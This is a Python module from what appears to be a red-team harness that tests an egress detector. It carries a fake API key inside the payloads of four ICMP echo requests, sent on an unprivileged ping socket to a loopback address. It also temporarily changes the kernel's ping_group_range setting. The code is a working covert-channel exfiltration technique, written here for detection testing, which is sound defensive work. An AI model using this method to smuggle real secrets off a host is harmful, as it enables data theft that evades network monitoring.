"""Round 9: the secret in the payload of ICMP echo requests sent on an unprivileged "ping" socket.

Gap 1 (egress through another socket kind).  ``socket(AF_INET, SOCK_DGRAM,
IPPROTO_ICMP)`` -- the ping socket ``ping`` itself uses -- sends ICMP echo
requests with ``sendto``; the kernel fills in the identifier and checksum.
Round 3 used a RAW socket for ICMP; this is the datagram ping socket, its own
protocol in the IPv4 stack (``PING`` in /proc/net/protocols).  Four requests
of 512 bytes each carry the secret to a new loopback address; the kernel
answers each, and the replies prove delivery.  The stage opens the ping
socket range to root's group (``net.ipv4.ping_group_range = 0 0``) when the
host closes it to everyone (the default "1 0"); the unstage restores it.
A detection: L4 UNKNOWN_DESTINATION for the new address.
"""

from __future__ import annotations

import socket
import struct
from pathlib import Path
from typing import Any

from redteam import rt

GAP = 1
MODE = "inject"
TARGET = "host"
HELD_OUT = True
ROUND = 9
STAGE = True
EXPECT = ("L4",)
KNOB = Path("/proc/sys/net/ipv4/ping_group_range")


def _orig(work: str) -> Path:
    return Path(work).parent / "daemons" / "r9-ping_group_range.orig"


def stage(args: dict[str, Any]) -> None:
    lo, hi = (int(x) for x in KNOB.read_text().split())
    if not lo <= 0 <= hi:
        _orig(args["work"]).write_text(f"{lo}\t{hi}\n")
        KNOB.write_text("0\t0\n")


def unstage(args: dict[str, Any]) -> None:
    o = _orig(args["work"])
    if o.exists():
        KNOB.write_text(o.read_text())
        o.unlink()


def run(args: dict[str, Any]) -> None:
    ip = rt.loopback(args["dest"]["ip"])
    secret = (b"OPENAI_API_KEY=sk-h7redteam-round9-icmp-echo-payload;" * 10)[:512]
    replies = 0
    t = rt.now()
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP) as s:
        s.settimeout(2)
        for seq in range(1, 5):
            s.sendto(struct.pack("!BBHHH", 8, 0, 0, 0, seq) + secret, (ip, 0))
            try:
                data = s.recv(2048)
            except TimeoutError:
                continue
            replies += data[0] == 0 and data[8:] == secret
    rt.report(
        t, replies > 0, f"4 ICMP echo requests (512 B payload) to {ip} on a ping socket: {replies} replies"
    )


if __name__ in ("__main__", "h7_injected"):
    rt.main(run, globals())
